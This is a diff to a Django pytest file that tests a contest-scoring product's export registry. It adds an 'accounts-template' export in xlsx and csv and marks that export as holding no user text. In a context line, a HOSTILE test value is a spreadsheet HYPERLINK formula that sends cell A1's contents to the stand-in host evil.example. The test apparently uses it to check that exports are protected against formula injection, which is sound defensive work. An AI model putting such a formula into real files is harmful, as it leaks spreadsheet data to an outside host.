@@ -22,7 +22,7 @@ pytestmark = pytest.mark.django_db
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
 # The standings hold only computed points and the rubric's own names: nothing a user typed.
-NO_USER_TEXT = {"standings"}
+NO_USER_TEXT = {"standings", "accounts-template"}  # the template holds only its own example
 
 
 @pytest.fixture
@@ -51,6 +51,7 @@ def _sources(rubric) -> dict[str, object]:
         "contest": rubric.contest,
         "admin-history": ScoreChange.objects.select_related("rubric", "province", "criterion", "member", "changed_by"),
         "evidence-zip": list(entries(Evidence.objects.select_related("submission__criterion"))),
+        "accounts": None,  # the accounts template (issue #41) is the same for everyone
     }
 
 
@@ -85,6 +86,8 @@ def test_registry_holds_every_export_of_the_product():
         ("judgment-changes", "csv"),
         ("score-history", "xlsx"),
         ("score-history", "csv"),
+        ("accounts-template", "xlsx"),
+        ("accounts-template", "csv"),
         ("evidence-index", "csv"),
     ]
     assert all(e.name_th and e.name_en and e.permission for e in exporter.REGISTRY.values())
